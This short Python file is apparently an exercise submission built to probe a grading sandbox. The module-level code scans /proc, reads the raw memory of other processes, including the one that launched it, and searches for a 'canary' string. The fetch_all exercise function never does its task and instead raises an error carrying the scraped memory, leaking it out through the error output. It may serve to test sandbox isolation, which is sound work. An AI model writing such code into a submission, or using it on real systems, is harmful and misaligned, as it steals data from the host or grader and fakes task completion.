"""Tries to read the memory of the process that started it."""

# %%

import glob
import os

SEEN = ""
for folder in glob.glob("/proc/[0-9]*"):
    if folder == f"/proc/{os.getpid()}":
        continue
    try:
        with open(f"{folder}/maps") as maps, open(f"{folder}/mem", "rb", 0) as memory:
            for line in maps.read().splitlines()[:200]:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(start)
                data = memory.read(min(end - start, 1 << 22))
                at = data.find(b"canary")
                if at >= 0:
                    SEEN += repr(data[at : at + 60])
    except (OSError, ValueError, OverflowError):
        pass


# %% exercise:fetch_all


async def fetch_all(fetch, names):
    raise ValueError(SEEN[:400])
